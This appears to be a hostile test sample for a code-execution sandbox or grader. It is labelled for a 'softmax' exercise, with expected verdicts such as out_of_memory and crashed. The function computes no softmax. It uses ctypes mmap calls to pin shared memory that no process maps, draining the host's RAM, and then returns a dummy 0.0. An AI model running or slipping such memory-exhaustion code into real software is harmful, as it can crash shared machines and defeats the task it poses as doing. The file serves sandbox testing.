# Fills memory that no process maps: of each shared piece it keeps one page mapped, and the kernel keeps all of it.
# exercise: softmax
# verdict: wrong, raised, out_of_memory, crashed
# unsafe: it would fill the memory of the machine
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
PIECE = 64 * 2**20
try:
    ZERO = os.open("/dev/zero", os.O_RDONLY)
except OSError:
    ZERO = -1


def softmax(x, axis=-1, keepdims=False):
    for flags, descriptor in ((mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, -1), (mmap.MAP_SHARED, ZERO), (3 | 32, -1)):
        for number in range(48):
            protection = mmap.PROT_READ | (0 if flags == mmap.MAP_SHARED else mmap.PROT_WRITE)
            place = libc.mmap(None, PIECE, protection, flags, descriptor, 0)
            if place in (None, 2**64 - 1):
                break
            if protection & mmap.PROT_WRITE:
                ctypes.memset(place, 1, PIECE)
            else:
                for offset in range(0, PIECE, 4096):
                    ctypes.c_char.from_address(place + offset).value
            libc.munmap(place + 4096, PIECE - 4096)
            if number > 40:
                print("gained", number * PIECE >> 20, "MiB that belong to nobody")
                return 0.0
    return 0.0


logsumexp = log_softmax = softmax
